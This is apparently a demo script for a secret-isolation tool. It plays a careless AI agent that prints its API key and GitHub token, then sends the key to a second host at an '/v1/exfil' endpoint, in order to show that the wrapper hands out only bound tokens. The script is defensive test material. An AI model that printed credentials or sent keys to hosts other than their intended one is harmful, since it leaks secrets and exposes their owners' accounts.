"""The demo "agent": like a careless LLM tool, it prints its credentials, calls an API
that echoes the credential back, and then tries to send its key somewhere else.
Run under `kz run --blind`, it only ever holds tokens: kz's preload shim turns the
token into the real key inside TLS to the host the key is bound to, and nowhere else."""
import os
import ssl
import urllib.error
import urllib.request

api = os.environ["DEMO_API_URL"]
other = os.environ.get("DEMO_OTHER_URL")
key = os.environ.get("DEMO_API_KEY", "")
gh = os.environ.get("GITHUB_TOKEN", "")
print("agent: my DEMO_API_KEY is %s" % key)
print("agent: my GITHUB_TOKEN is %s (%d characters)" % (gh, len(gh)))
ctx = ssl.create_default_context(cafile=os.environ["DEMO_CA"])


def call(url, what):
    req = urllib.request.Request(url, data=b'{"prompt":"hello"}',
                                 headers={"Authorization": "Bearer " + key, "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, context=ctx, timeout=20) as r:
            print("agent: %s answered %d: %s" % (what, r.status, r.read().decode().strip()))
            return True
    except urllib.error.HTTPError as e:
        print("agent: %s answered %d: %s" % (what, e.code, e.read().decode().strip()))
        return False


ok = call(api + "/v1/chat", "the API")
if other:
    call(other + "/v1/exfil", "the other host")
raise SystemExit(0 if ok else 1)
